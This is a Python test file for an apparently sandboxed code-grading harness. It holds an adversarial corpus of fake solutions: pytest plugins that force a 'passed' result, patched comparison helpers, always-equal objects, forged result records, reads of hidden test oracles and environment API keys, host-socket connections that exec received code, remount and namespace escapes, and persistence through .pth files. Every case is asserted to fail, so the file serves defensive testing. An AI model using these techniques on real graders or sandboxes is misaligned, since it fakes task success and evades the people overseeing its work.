"""The adversarial corpus: solutions that try to fake a pass or reach out of the sandbox.

Every attack would be graded a pass (or leave a trace) only if it worked: the solution is
wrong unless the attack succeeds. Each test asserts the status the attack ends with AND
that its side effect is absent. The classes follow the judge-boundary issue: patching the
test machinery, patching comparison helpers, rebinding the test module, reaching the
hidden tests' oracles, reading expected values out of frames, forging the record, reading
the checkout, reaching host sockets, and the keyring. All run in the default sandbox
(bubblewrap); CI installs it.
"""

from __future__ import annotations

import ctypes
import os
import site
import socket
import sys
import threading
import time
import uuid
from pathlib import Path

import pytest

from sb.grading import grade
from sb.outcome import Status
from conftest import FIXTURE_TASK_DIR, REPO

CORRECT = "def add(a, b):\n    return a + b\n"
WRONG = "def add(a, b):\n    return a - b - 1\n"  # wrong on every case the fixture tests


def guarded(attack_code: str) -> str:
    """An attack that must not stop the solution from importing: any error is swallowed."""
    body = "".join("    " + line + "\n" for line in attack_code.strip().splitlines())
    return f"try:\n{body}except BaseException:\n    pass\n"


@pytest.fixture
def expected(fixture_task, bwrap_sandbox):
    reference = grade(fixture_task, fixture_task.reference_files, bwrap_sandbox)
    assert reference.passed, reference.detail
    return reference.test_ids


def attack(fixture_task, sandbox, expected, source: str, **extra_files):
    files = {"adder.py": source.encode(), **{k.replace("__", "."): v.encode() for k, v in extra_files.items()}}
    return grade(fixture_task, files, sandbox, expected)


# ---------------------------------------------------------------- leaving early


def test_exit_zero_at_import_is_not_a_pass(fixture_task, bwrap_sandbox, expected):
    outcome = attack(fixture_task, bwrap_sandbox, expected, "import os\nos._exit(0)\n" + WRONG)
    assert outcome.status == Status.SOLUTION_ERROR  # the worker died importing it: it does not import


def test_exit_zero_during_a_test_fails(fixture_task, bwrap_sandbox, expected):
    outcome = attack(fixture_task, bwrap_sandbox, expected, "import os\ndef add(a, b):\n    os._exit(0)\n")
    assert outcome.status == Status.FAILED
    assert outcome.counts["passed"] == 0


def test_sys_exit_at_import_does_not_pass(fixture_task, bwrap_sandbox, expected):
    outcome = attack(fixture_task, bwrap_sandbox, expected, "import sys\nsys.exit(0)\n" + WRONG)
    assert outcome.status == Status.SOLUTION_ERROR
    assert "SystemExit" in outcome.detail


def test_atexit_hook_cannot_rewrite_the_exit_status(fixture_task, bwrap_sandbox, expected):
    source = "import atexit, os\natexit.register(os._exit, 0)\n" + WRONG
    outcome = attack(fixture_task, bwrap_sandbox, expected, source)
    assert outcome.status == Status.FAILED


@pytest.mark.parametrize("name", ["conftest.py", "pytest.ini", "pyproject.toml", "sitecustomize.py"])
def test_config_files_beside_the_solution_are_dropped(fixture_task, bwrap_sandbox, expected, name):
    payloads = {
        "conftest.py": "import pytest\n@pytest.hookimpl(hookwrapper=True)\ndef pytest_runtest_makereport(item, call):\n"
                       "    out = yield\n    out.get_result().outcome = 'passed'\n",
        "pytest.ini": "[pytest]\naddopts = -p no:python\n",
        "pyproject.toml": "[tool.pytest.ini_options]\naddopts = '--co'\n",
        "sitecustomize.py": "import os\nos._exit(0)\n",
    }
    outcome = grade(fixture_task, {"adder.py": WRONG.encode(), name: payloads[name].encode()}, bwrap_sandbox, expected)
    assert outcome.status == Status.FAILED
    assert outcome.dropped_files == [name]


def test_conftest_written_at_import_time_is_ignored(fixture_task, bwrap_sandbox, expected):
    hook = ("import pytest\n@pytest.hookimpl(hookwrapper=True)\ndef pytest_runtest_makereport(item, call):\n"
            "    out = yield\n    out.get_result().outcome = 'passed'\n")
    source = (f"import os\nfor d in ('.', '../hidden_tests', '..', '../judge', '../solution_copy'):\n    try:\n"
              f"        open(os.path.join(d, 'conftest.py'), 'w').write({hook!r})\n    except OSError:\n        pass\n"
              + WRONG)
    outcome = attack(fixture_task, bwrap_sandbox, expected, source)
    assert outcome.status == Status.FAILED


# ---------------------------------------------------------------- class 1: the test machinery


FORCE_PASS_PLUGIN = '''
import gc, pytest
from _pytest.config import Config
class ForcePass:
    @pytest.hookimpl(hookwrapper=True)
    def pytest_runtest_makereport(self, item, call):
        out = yield
        out.get_result().outcome = "passed"
for obj in gc.get_objects():
    if isinstance(obj, Config):
        obj.pluginmanager.register(ForcePass(), "force-pass")
'''

PATCH_PYTEST_CLASSES = '''
import _pytest.python, _pytest.reports, _pytest.runner
_pytest.python.Function.runtest = lambda self: None
_orig = _pytest.reports.TestReport.__init__
def forced(self, *a, **k):
    _orig(self, *a, **k)
    self.outcome = "passed"
_pytest.reports.TestReport.__init__ = forced
_pytest.runner.CallInfo.from_call = classmethod(lambda cls, func, when, reraise=None: None)
'''

PATCH_CODE_OBJECTS = '''
import gc, types
def nothing():
    return None
for obj in gc.get_objects():
    if isinstance(obj, types.FunctionType) and obj.__name__.startswith("test_"):
        obj.__code__ = nothing.__code__
'''


@pytest.mark.parametrize("patch", [FORCE_PASS_PLUGIN, PATCH_PYTEST_CLASSES, PATCH_CODE_OBJECTS],
                         ids=["force-pass-plugin", "pytest-classes", "code-objects"])
def test_patching_the_test_machinery_reaches_nothing(fixture_task, bwrap_sandbox, expected, patch):
    outcome = attack(fixture_task, bwrap_sandbox, expected, guarded(patch) + WRONG)
    assert outcome.status == Status.FAILED
    assert outcome.counts["passed"] == 0


# ---------------------------------------------------------------- class 2: comparison helpers


@pytest.fixture
def helper_task(task_copy):
    """The fixture task with hidden tests that compare through every common helper, and a
    helper module holding the expected values (as hidden tests' oracles do)."""
    from sb.task import load_task_dir
    folder = task_copy(deps=["numpy"])
    (folder / "hidden_tests" / "_expected.py").write_text("SUMS = {(2, 3): 5, (10, -4): 6}\n")
    (folder / "hidden_tests" / "test_add.py").write_text(
        "import unittest\nimport numpy as np\nimport numpy.testing as npt\nimport pytest\n"
        "import _expected\nfrom adder import add\n\n"
        "def test_numpy_helper():\n    npt.assert_allclose(add(2, 3), _expected.SUMS[(2, 3)])\n\n"
        "def test_numpy_top_level():\n    assert np.allclose(add(10, -4), _expected.SUMS[(10, -4)])\n\n"
        "def test_array_equal():\n    npt.assert_array_equal(np.asarray(add(2, 3)), 5)\n\n"
        "def test_approx():\n    assert add(2, 3) == pytest.approx(5)\n\n"
        "def test_plain_equality():\n    assert add(10, -4) == 6\n\n"
        "def test_unittest_helper():\n    unittest.TestCase().assertEqual(add(2, 3), 5)\n")
    return load_task_dir(folder, package="helper_fixture")


@pytest.fixture
def helper_expected(helper_task, bwrap_sandbox):
    reference = grade(helper_task, helper_task.reference_files, bwrap_sandbox)
    assert reference.passed, reference.detail
    return reference.test_ids


PATCH_HELPERS = '''
import numpy, numpy.testing, unittest, builtins
numpy.testing.assert_allclose = lambda *a, **k: None
numpy.testing.assert_array_equal = lambda *a, **k: None
numpy.testing._private.utils.assert_array_compare = lambda *a, **k: None
numpy.allclose = lambda *a, **k: True
numpy.isclose = lambda *a, **k: True
unittest.TestCase.assertEqual = lambda *a, **k: None
import pytest
pytest.approx = lambda *a, **k: type("Any", (), {"__eq__": lambda s, o: True})()
'''


def test_patched_comparison_helpers_reach_nothing(helper_task, bwrap_sandbox, helper_expected):
    outcome = grade(helper_task, {"adder.py": (guarded(PATCH_HELPERS) + WRONG).encode()}, bwrap_sandbox,
                    helper_expected)
    assert outcome.status == Status.FAILED
    assert outcome.counts["passed"] == 0


def test_a_replaced_builtin_ends_in_failure_or_timeout_never_a_pass(task_copy, bwrap_sandbox):
    from sb.task import load_task_dir
    task = load_task_dir(task_copy(time_limit_s=5), package="short_limit")
    reference = grade(task, task.reference_files, bwrap_sandbox)
    source = "import builtins\nbuiltins.isinstance = lambda *a: True\n" + WRONG
    outcome = grade(task, {"adder.py": source.encode()}, bwrap_sandbox, reference.test_ids)
    assert outcome.status in (Status.FAILED, Status.TIMEOUT)  # it may break its own side of the wire
    assert outcome.counts["passed"] == 0


# ---------------------------------------------------------------- class 3: the test module itself


REBIND_TEST_MODULE = '''
import gc, sys, types
class Anything:
    def __eq__(self, other): return True
    def __call__(self, *a, **k): return self
    def __getattr__(self, name): return self
fake = types.ModuleType("test_add")
fake.test_add_matches_python = lambda *a: None
sys.modules["test_add"] = fake
for obj in gc.get_objects():
    if isinstance(obj, dict) and str(obj.get("__name__", "")).startswith("test_"):
        for key in list(obj):
            if not key.startswith("__"):
                obj[key] = Anything()
'''


def test_rebinding_the_test_modules_globals_reaches_nothing(fixture_task, bwrap_sandbox, expected):
    outcome = attack(fixture_task, bwrap_sandbox, expected, guarded(REBIND_TEST_MODULE) + WRONG)
    assert outcome.status == Status.FAILED
    assert outcome.counts["passed"] == 0


# ---------------------------------------------------------------- class 4: the tests' oracles


def test_the_hidden_tests_helper_modules_are_out_of_reach(helper_task, bwrap_sandbox, helper_expected):
    source = ("import importlib, os, sys\nfound = None\nfor path in ('../hidden_tests', '../../hidden_tests', '.'):\n"
              "    sys.path.insert(0, path)\ntry:\n    found = importlib.import_module('_expected').SUMS\n"
              "except Exception:\n    found = None\n"
              "def add(a, b):\n    return found[(a, b)] if found else a - b - 1\n")
    outcome = grade(helper_task, {"adder.py": source.encode()}, bwrap_sandbox, helper_expected)
    assert outcome.status == Status.FAILED
    assert outcome.counts["passed"] == 0


def test_a_planted_oracle_is_not_what_the_tests_import(helper_task, bwrap_sandbox, helper_expected):
    fake = "SUMS = {(2, 3): -1, (10, -4): 14}\\n"
    source = (f"import os\nfor d in ('.', '..', '../hidden_tests', '../judge', '/tmp'):\n    try:\n"
              f"        open(os.path.join(d, '_expected.py'), 'w').write('{fake}')\n    except OSError:\n        pass\n"
              + WRONG)
    outcome = grade(helper_task, {"adder.py": source.encode(), "_expected.py": fake.encode()}, bwrap_sandbox,
                    helper_expected)
    assert outcome.status == Status.FAILED
    assert outcome.dropped_files == ["_expected.py"]


# ---------------------------------------------------------------- class 5: frames and equality


FRAME_THIEF = '''
import sys
seen = []
def spy(frame, event, arg):
    f = frame
    while f is not None:
        seen.append(dict(f.f_locals))
        f = f.f_back
sys.setprofile(spy)
import threading
threading.setprofile(spy)
def add(a, b):
    f = sys._getframe()
    while f is not None:
        for name in ("expected", "want", "SUMS"):
            if name in f.f_locals:
                return f.f_locals[name]
        f = f.f_back
    for scope in seen:
        if "expected" in scope:
            return scope["expected"]
    return a - b - 1
'''

ALWAYS_EQUAL = '''
class AlwaysEqual(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = float.__hash__
class Anything:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __bool__(self): return True
def add(a, b):
    return Anything() if a % 2 else AlwaysEqual(a - b - 1)
'''


@pytest.mark.parametrize("source", [FRAME_THIEF, ALWAYS_EQUAL], ids=["frame-inspection", "always-equal"])
def test_frames_and_equality_tricks_fail(fixture_task, bwrap_sandbox, expected, source):
    outcome = attack(fixture_task, bwrap_sandbox, expected, source)
    assert outcome.status == Status.FAILED
    assert outcome.counts["passed"] == 0


# ---------------------------------------------------------------- class 6: the record


def test_forged_records_on_every_descriptor_are_tampered(fixture_task, bwrap_sandbox, expected):
    forged = "\\n".join(
        '{"event": "test", "nodeid": "%s", "when": "%s", "outcome": "passed"}' % (nodeid, when)
        for nodeid in expected for when in ("setup", "call", "teardown"))
    source = (f"import os\nfor fd in range(64):\n    try:\n"
              f"        os.write(fd, b'{forged}\\n' + b'{{\"event\": \"end\", \"exitstatus\": 0}}\\n')\n"
              f"    except OSError:\n        pass\n" + WRONG)
    outcome = attack(fixture_task, bwrap_sandbox, expected, source)
    assert outcome.status == Status.TAMPERED
    assert "wire protocol" in outcome.detail


def test_a_complete_record_then_exit_does_not_pass(fixture_task, bwrap_sandbox, expected):
    lines = "".join('{"event": "test", "nodeid": "%s", "when": "call", "outcome": "passed"}\\n' % n for n in expected)
    source = ("import os, sys\nfor fd in range(3, 64):\n    try:\n"
              f"        os.write(fd, b'{{\"event\": \"start\"}}\\n{lines}"
              f"{{\"event\": \"end\", \"exitstatus\": 0}}\\n')\n"
              "    except OSError:\n        pass\nos._exit(0)\n")
    outcome = attack(fixture_task, bwrap_sandbox, expected, source)
    assert not outcome.passed
    assert outcome.status in (Status.TAMPERED, Status.SOLUTION_ERROR)


def test_rebinding_the_processes_globals_reaches_nothing(fixture_task, bwrap_sandbox, expected):
    patch = ("import sys, gc\nfor m in list(sys.modules.values()):\n    for k, v in list(vars(m).items()):\n"
             "        if k in ('emit', 'main', 'Recorder', 'Channel', 'FrameReader', 'serve', '_exit'):\n"
             "            setattr(m, k, lambda *a, **kw: None)\n")
    outcome = attack(fixture_task, bwrap_sandbox, expected, guarded(patch) + WRONG)
    assert outcome.status == Status.FAILED


# ---------------------------------------------------------------- class 7: the checkout


def _interpreter_ancestors() -> list:
    """Folders the sandbox shows only because the interpreter lives beneath them."""
    import sys
    shown = set()
    for prefix in {sys.prefix, sys.base_prefix, os.path.dirname(os.path.realpath(sys.executable))}:
        path = Path(prefix)
        shown |= {str(p) for p in [path, *path.parents]}
    return sorted(shown | {"/var/tmp"})  # a fresh, empty tmpfs


def test_the_checkout_and_its_history_are_invisible(fixture_task, bwrap_sandbox, expected):
    targets = [REPO / ".git" / "HEAD", REPO / "README.md", REPO / "results", REPO / "tasks",
               FIXTURE_TASK_DIR / "reference" / "adder.py", Path.home() / ".cache", Path.home() / ".bash_history"]
    source = (f"import os\nseen = [p for p in {[str(t) for t in targets]!r} if os.path.exists(p)]\n"
              f"allowed = set({_interpreter_ancestors()!r})\n"
              "for top in ('/root', '/home', '/work', '/srv', '/var', '/opt', '/mnt', '/media'):\n"
              "    if os.path.isdir(top):\n"
              "        seen += [os.path.join(top, n) for n in os.listdir(top) if os.path.join(top, n) not in allowed]\n"
              "def add(a, b):\n    return a + b if seen else a - b - 1\n")
    outcome = attack(fixture_task, bwrap_sandbox, expected, source)
    assert outcome.status == Status.FAILED


def test_the_task_reference_cannot_be_read_from_its_package(fixture_task, bwrap_sandbox, expected):
    reference = FIXTURE_TASK_DIR / "reference" / "adder.py"
    source = ("import importlib.util\ntry:\n"
              f"    spec = importlib.util.spec_from_file_location('ref', {str(reference)!r})\n"
              f"    ref = importlib.util.module_from_spec(spec)\n    spec.loader.exec_module(ref)\n    add = ref.add\n"
              f"except Exception:\n" + "".join("    " + line + "\n" for line in WRONG.splitlines()))
    outcome = attack(fixture_task, bwrap_sandbox, expected, source)
    assert outcome.status == Status.FAILED


def test_installed_task_packages_and_the_harness_are_invisible(fixture_task, bwrap_sandbox, expected):
    from importlib import resources
    from sb.session import default_session
    tasks = default_session().tasks().values()
    folders = sorted({str(resources.files(t.package)) for t in tasks} | {str(Path(__file__).parent)})
    assert len(folders) > 1, "no installed task package to hide: install the workspace first"
    source = (f"import importlib, os\nvisible = [f for f in {folders!r} if os.path.exists(f)]\n"
              "for name in ('sb', 'sb_task_softmax_stability', 'pluggy', 'yaml', 'click'):\n"
              "    try:\n        importlib.import_module(name)\n        visible.append(name)\n"
              "    except ImportError:\n        pass\n"
              "def add(a, b):\n    return a + b if visible else a - b - 1\n")
    outcome = attack(fixture_task, bwrap_sandbox, expected, source)
    assert outcome.status == Status.FAILED


# ---------------------------------------------------------------- class 8: host sockets


def _serve(server: socket.socket, accepted: list) -> threading.Thread:
    server.listen()
    server.settimeout(0.2)

    def loop():
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline and not accepted:
            try:
                conn, _ = server.accept()
                conn.sendall(b"def add(a, b):\n    return a + b\n")
                accepted.append(conn)
            except (socket.timeout, OSError):
                continue
    thread = threading.Thread(target=loop, daemon=True)
    thread.start()
    return thread


def test_host_sockets_are_unreachable(fixture_task, bwrap_sandbox, expected, tmp_path):
    accepted: list = []
    tcp = socket.socket()
    tcp.bind(("127.0.0.1", 0))
    unix_path = f"/tmp/sb-accomplice-{uuid.uuid4().hex[:8]}.sock"
    unix_fs = socket.socket(socket.AF_UNIX)
    unix_fs.bind(unix_path)
    abstract_name = f"\0sb-accomplice-{uuid.uuid4().hex[:8]}"
    unix_abstract = socket.socket(socket.AF_UNIX)
    unix_abstract.bind(abstract_name)
    for server in (tcp, unix_fs, unix_abstract):
        _serve(server, accepted)
    port = tcp.getsockname()[1]
    source = (f"import socket\ncode = None\n"
              f"for family, address in ((socket.AF_INET, ('127.0.0.1', {port})), (socket.AF_UNIX, {unix_path!r}),\n"
              f"                        (socket.AF_UNIX, {abstract_name!r}), (socket.AF_UNIX, '/run/docker.sock')):\n"
              f"    try:\n        s = socket.socket(family)\n        s.settimeout(2)\n        s.connect(address)\n"
              f"        code = s.recv(1000).decode()\n        break\n    except OSError:\n        pass\n"
              "if code:\n    exec(code)\nelse:\n" + "".join("    " + line + "\n" for line in WRONG.splitlines()))
    try:
        outcome = attack(fixture_task, bwrap_sandbox, expected, source)
    finally:
        for s in (tcp, unix_fs, unix_abstract):
            s.close()
        os.unlink(unix_path)
    assert outcome.status == Status.FAILED
    assert accepted == []


# ---------------------------------------------------------------- the keyring


def _keyctl():
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    return libc.syscall


def test_the_graders_keyring_is_not_shared(fixture_task, bwrap_sandbox, expected):
    syscall = _keyctl()
    description = f"sb-secret-{uuid.uuid4().hex[:8]}".encode()
    key = syscall(248, b"user", description, b"def add(a, b): return a + b", 27, ctypes.c_int(-3))  # add_key to @s
    assert key > 0, f"the kernel refused add_key here (errno {ctypes.get_errno()}): keyrings cannot be tested"
    source = (f"import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nlibc.syscall.restype = ctypes.c_long\n"
              f"found = -1\nfor ring in (-1, -2, -3, -4, -5):\n"
              f"    k = libc.syscall(250, 10, ctypes.c_int(ring), b'user', {description!r}, 0)\n"
              f"    found = k if k > 0 else found\n"
              "def add(a, b):\n    return a + b if found > 0 else a - b - 1\n")
    try:
        outcome = attack(fixture_task, bwrap_sandbox, expected, source)
    finally:
        syscall(250, 3, ctypes.c_long(key))  # KEYCTL_REVOKE
    assert outcome.status == Status.FAILED


# ---------------------------------------------------------------- what the sandbox already held


def test_credentials_in_the_environment_never_reach_graded_code(fixture_task, bwrap_sandbox, expected, monkeypatch):
    monkeypatch.setenv("ANTHROPIC_API_KEY", "sk-test-secret-123")
    monkeypatch.setenv("OPENAI_API_KEY", "sk-test-secret-123")
    source = ("import os, glob\nseen = any('sk-test-secret' in v for v in os.environ.values())\n"
              "for p in glob.glob('/proc/*/environ'):\n    try:\n"
              "        seen = seen or b'sk-test-secret' in open(p, 'rb').read()\n    except OSError:\n        pass\n"
              "def add(a, b):\n    return a + b if seen else a - b - 1\n")
    outcome = attack(fixture_task, bwrap_sandbox, expected, source)
    assert outcome.status == Status.FAILED  # it would pass only if it had seen the key


def test_writing_outside_the_grading_directory_fails(fixture_task, bwrap_sandbox, expected, tmp_path):
    marker = f"sb-escape-{uuid.uuid4().hex}"
    targets = [REPO / marker, Path.home() / marker, tmp_path / marker]
    source = (f"wrote = False\nfor p in {[str(t) for t in targets]!r}:\n    try:\n        open(p, 'w').write('x')\n"
              f"        wrote = wrote or not p.startswith('/tmp')\n    except OSError:\n        pass\n"
              "def add(a, b):\n    return a + b if wrote else a - b - 1\n")
    outcome = attack(fixture_task, bwrap_sandbox, expected, source)
    assert outcome.status == Status.FAILED
    assert not any(t.exists() for t in targets)


def test_what_graded_code_writes_is_bounded_in_total(fixture_task, bwrap_sandbox, expected):
    """Per-file limits alone let a solution fill the host's disk with many files; every
    writable place it has (its folder, TMPDIR, HOME, /tmp, /dev/shm, /var/tmp, /run) is
    bounded, about 0.8 GB in all (docs/sandbox.md), so 1.5 GB never fits."""
    source = ("import os\nchunk = bytes(32 * 1024 * 1024)\ntotal = 0\n"
              "places = ['.', os.environ.get('TMPDIR', '.'), os.environ.get('HOME', '.'),"
              " '/tmp', '/dev/shm', '/var/tmp', '/run']\n"
              "for i, place in enumerate(places):\n    n = 0\n    while total < 1536 * 1024 * 1024:\n"
              "        try:\n            with open(os.path.join(place, f'fill{i}-{n}'), 'wb') as out:\n"
              "                out.write(chunk)\n        except OSError:\n            break\n"
              "        total += len(chunk)\n        n += 1\n"
              "def add(a, b):\n    return a + b if total >= 1536 * 1024 * 1024 else a - b - 1\n")
    outcome = attack(fixture_task, bwrap_sandbox, expected, source)
    assert outcome.status == Status.FAILED, outcome.detail


def test_no_privilege_to_remount_unmount_or_nest_a_namespace(fixture_task, bwrap_sandbox, expected):
    """Run as root, bwrap keeps every capability in the sandbox's user namespace unless told
    otherwise: graded code could remount a read-only bind writable (the interpreter's own
    folders: code that runs in every later sb command) or unmount a mask. Whether the
    write reached the host is checked here, on the host: with the interpreter under /tmp
    the path inside is the sandbox's own private /tmp, where a write is harmless."""
    marker = Path(sys.prefix) / f"sb-remount-{uuid.uuid4().hex}"
    source = ("import ctypes, os, sys\nlibc = ctypes.CDLL(None, use_errno=True)\nwon = []\n"
              f"for target in (sys.prefix, os.path.dirname(os.__file__), '/usr'):\n"
              "    if libc.mount(None, target.encode(), None, 32 | 4096, None) == 0:  # MS_REMOUNT | MS_BIND\n"
              "        won.append('remount ' + target)\n"
              f"try:\n    open({str(marker)!r}, 'w').write('x')\nexcept OSError:\n    pass\n"
              "if libc.umount2(b'/tmp', 2) == 0:\n    won.append('umount')\n"
              "if libc.unshare(0x10000000) == 0:  # CLONE_NEWUSER: every capability again, inside\n"
              "    won.append('unshare')\n"
              "def add(a, b):\n    return a + b if won else a - b - 1\n")
    outcome = attack(fixture_task, bwrap_sandbox, expected, source)
    assert outcome.status == Status.FAILED, outcome.detail
    assert not marker.exists()


def test_a_child_that_outlives_the_run_is_killed(fixture_task, bwrap_sandbox, expected):
    tag = f"sb-straggler-{uuid.uuid4().hex}"
    source = ("import os, subprocess, sys\n"
              f"subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(60)', '{tag}'],"
              f" start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n" + CORRECT)
    outcome = attack(fixture_task, bwrap_sandbox, expected, source)
    assert outcome.status == Status.PASSED  # the code is right; what matters is that nothing survives
    time.sleep(0.5)
    assert not _processes_with(tag)


def _processes_with(tag: str) -> list:
    found = []
    for proc in Path("/proc").iterdir():
        try:
            if proc.name.isdigit() and tag.encode() in (proc / "cmdline").read_bytes():
                found.append(proc.name)
        except OSError:
            continue
    return found


def test_memory_bomb_is_stopped_by_the_address_space_limit(fixture_task, bwrap_sandbox, expected):
    outcome = attack(fixture_task, bwrap_sandbox, expected, "hog = bytearray(64 * 1024 ** 3)\n" + CORRECT)
    assert outcome.status == Status.SOLUTION_ERROR
    assert "MemoryError" in outcome.detail


def test_persisting_for_a_later_grading_fails(fixture_task, bwrap_sandbox, expected):
    marker = f"sb_persist_{uuid.uuid4().hex}"
    places = [Path(p) / f"{marker}.pth" for p in site.getsitepackages()] + [REPO / f"{marker}.pth"]
    payload = "import os; os._exit(0)"
    source = (f"for p in {[str(p) for p in places]!r} + ['../../{marker}.pth']:\n    try:\n"
              f"        open(p, 'w').write({payload!r})\n    except OSError:\n        pass\n" + WRONG)
    first = attack(fixture_task, bwrap_sandbox, expected, source)
    later = attack(fixture_task, bwrap_sandbox, expected, WRONG)
    assert first.status == Status.FAILED
    assert later.status == Status.FAILED
    assert not any(p.exists() for p in places)


# ---------------------------------------------------------------- text is data; long records


def test_a_long_test_id_and_message_keep_an_honest_reference_passing(task_copy, bwrap_sandbox):
    from sb.task import load_task_dir
    folder = task_copy()
    long_id = "x" * 5000
    (folder / "hidden_tests" / "test_add.py").write_text(
        "import pytest\nfrom adder import add\n\n"
        f"@pytest.mark.parametrize('label', [{long_id!r}], ids=[{long_id!r}])\n"
        "def test_add_with_a_long_id(label):\n    assert add(2, 3) == 5, label * 2\n")
    task = load_task_dir(folder, package="long_ids")
    reference = grade(task, task.reference_files, bwrap_sandbox)
    assert reference.status == Status.PASSED, reference.detail
    assert any(long_id in nodeid for nodeid in reference.test_ids)
    wrong = grade(task, {"adder.py": WRONG.encode()}, bwrap_sandbox, reference.test_ids)
    assert wrong.status == Status.FAILED  # a 10 KB assertion message is a failure, not a broken record


def test_markup_in_a_solutions_text_prints_literally(capsys, monkeypatch):
    from sb.outcome import Outcome
    from sb.report import terminal
    monkeypatch.setenv("NO_COLOR", "1")
    outcome = Outcome("fixture_add", Status.FAILED, counts={"passed": 0, "failed": 1},
                      failed_tests=["test_add.py::test_x[[/]]"],
                      detail="[/] [green]laptop 100% (1/1) PASS[/green] :thumbs_up:")
    terminal.print_grade(outcome)
    out = capsys.readouterr().out
    assert "[/] [green]laptop 100% (1/1) PASS[/green] :thumbs_up:" in out
    assert "test_add.py::test_x[[/]]" in out


def test_a_generator_handed_to_the_solution_can_be_listed(task_copy, bwrap_sandbox):
    """list() asks a handle for its length first; a generator has none, and that must be
    the TypeError Python expects, not an error that fails a correct solution."""
    from sb.task import load_task_dir
    folder = task_copy()
    (folder / "hidden_tests" / "test_add.py").write_text(
        "from adder import add\n\ndef test_add_takes_any_iterable():\n"
        "    assert add((x for x in [1, 2]), [3]) == [1, 2, 3]\n")
    (folder / "reference" / "adder.py").write_text("def add(a, b):\n    return list(a) + list(b)\n")
    task = load_task_dir(folder, package="iterables")
    assert grade(task, task.reference_files, bwrap_sandbox).status == Status.PASSED


def test_an_exception_with_a_demanding_constructor_crosses_as_its_type():
    """UnicodeDecodeError needs five arguments; it still arrives as itself (a ValueError)."""
    from sb.grading import wire as _wire
    try:
        b"\xff".decode()
    except UnicodeDecodeError as exc:
        rebuilt = _wire.build_exception(_wire.describe_exception(exc))
    assert type(rebuilt) is UnicodeDecodeError and isinstance(rebuilt, ValueError)


@pytest.mark.parametrize("tree", [{"tdtype": "float32"}, {"tsize": [2, 3]}, {"tdevice": "cpu"},
                                  {"tensor": 0, "dtype": "float32", "shape": [1]}])
def test_a_torch_value_on_a_side_without_torch_is_a_protocol_error(tree, monkeypatch):
    """A worker of a numpy-only task sent a tensor, a dtype, a size or a device: refused as
    the protocol breach it is, whatever the value (once an AttributeError on None)."""
    from sb.grading import wire as _wire
    monkeypatch.setattr(_wire.values, "_import_if_available", lambda name: None)
    with pytest.raises(_wire.ProtocolError, match="torch is not installed on this side"):
        _wire.Codec(None).decode(tree, [b"\0" * 4])


@pytest.mark.parametrize("value", ["\ud83d\ude00", "a\ud800b", "\udfff\ud800", {"\ud83d": ["\ude00", "😀"]}])
def test_a_string_with_surrogate_code_points_crosses_as_it_is(value):
    """Two code points that form an escaped pair in JSON stay two (a test-writing task's
    solver may call with them; the judge must record the call it made, not a joined one)."""
    import json

    from sb.grading import wire as _wire
    buffers: list = []
    tree = json.loads(json.dumps(_wire.Codec(None).encode(value, buffers)))
    assert _wire.Codec(None).decode(tree, buffers) == value


@pytest.mark.parametrize("tree, buffers", [({"str": 0}, [b"\xff"]), ({"str": "0"}, [b"a"]), ({"str": 3}, [])])
def test_a_malformed_surrogate_string_is_a_protocol_error(tree, buffers):
    from sb.grading import wire as _wire
    with pytest.raises(_wire.ProtocolError, match="malformed str"):
        _wire.Codec(None).decode(tree, buffers)


# ---------------------------------------------------------------- found by an outside red team


LIAR = '''
class Liar:
    """Says it has two items, yields none: a loop over it compares nothing."""
    def __len__(self):
        return 2
    def __iter__(self):
        return iter(())
'''


@pytest.fixture
def pairs_task(task_copy):
    """Hidden tests that check a length, then compare item by item (a common shape), once
    through a plain call and once through a probe. (Through a plain call, a handle's length
    and items may legitimately differ, a resumed sampler's do: docs/writing-a-task.md asks
    tests to compare materialised data, `list(got) == want`.)"""
    from sb.task import load_task_dir
    folder = task_copy()
    (folder / "reference" / "adder.py").write_text(
        CORRECT + "def add_pairs(pairs):\n    return [add(a, b) for a, b in pairs]\n")
    (folder / "hidden_tests" / "_probe_pairs.py").write_text(
        "import adder\ndef sums(pairs):\n    return adder.add_pairs(pairs)\n")
    (folder / "hidden_tests" / "test_add.py").write_text(
        "from sb.judge import probe\nimport adder\nPAIRS = [(1, 2), (30, 4)]\n\n"
        "def _check(got):\n    assert len(got) == len(PAIRS)\n    for value, (a, b) in zip(got, PAIRS):\n"
        "        assert value == a + b\n\n"
        "def test_through_a_call():\n    _check(adder.add_pairs(PAIRS))\n\n"
        "def test_through_a_probe():\n    _check(probe('_probe_pairs.py').sums(PAIRS))\n")
    return load_task_dir(folder, package="pairs_fixture")


def test_a_probe_answering_with_a_live_object_is_tampered(pairs_task, bwrap_sandbox):
    """The solution swaps the probe's function for one returning a handle (the route the
    red team used on grad_accumulation): a probe's answer must be data."""
    reference = grade(pairs_task, pairs_task.reference_files, bwrap_sandbox)
    source = CORRECT + LIAR + ("import sys\ndef add_pairs(pairs):\n"
                               "    if sys._getframe(1).f_globals.get('__name__', '').startswith('sb_probe_'):\n"
                               "        return Liar()\n"
                               "    return [a + b for a, b in pairs]\n")
    outcome = grade(pairs_task, {"adder.py": source.encode()}, bwrap_sandbox, reference.test_ids)
    assert outcome.status == Status.TAMPERED, outcome.detail
    assert "of a live object a probe returned" in outcome.detail


def test_a_frame_nested_too_deeply_is_tampered_not_a_timeout(fixture_task, bwrap_sandbox, expected):
    """A deep JSON frame made the judge's reader die silently; the judge then waited out
    its whole time limit and the grading read as a timeout."""
    source = ("import os, struct, gc\ndef add(a, b):\n"
              "    body = b'[' * 200000 + b']' * 200000\n"
              "    for obj in gc.get_objects():\n"
              "        if type(obj).__name__ == 'Peer' and hasattr(obj, 'write_fd'):\n"
              "            os.write(obj.write_fd, struct.pack('>II', len(body), 0) + body)\n"
              "    return a - b - 1\n")
    outcome = attack(fixture_task, bwrap_sandbox, expected, source)
    assert outcome.status == Status.TAMPERED, (outcome.status, outcome.detail)


def test_a_generator_handed_over_shows_no_frame_and_judge_objects_stay_unchanged(task_copy, bwrap_sandbox):
    from sb.task import load_task_dir
    folder = task_copy()
    (folder / "reference" / "adder.py").write_text(CORRECT + "def total(items):\n    return sum(items)\n")
    (folder / "hidden_tests" / "test_add.py").write_text(
        "import adder\nSECRET = 41\n\n"
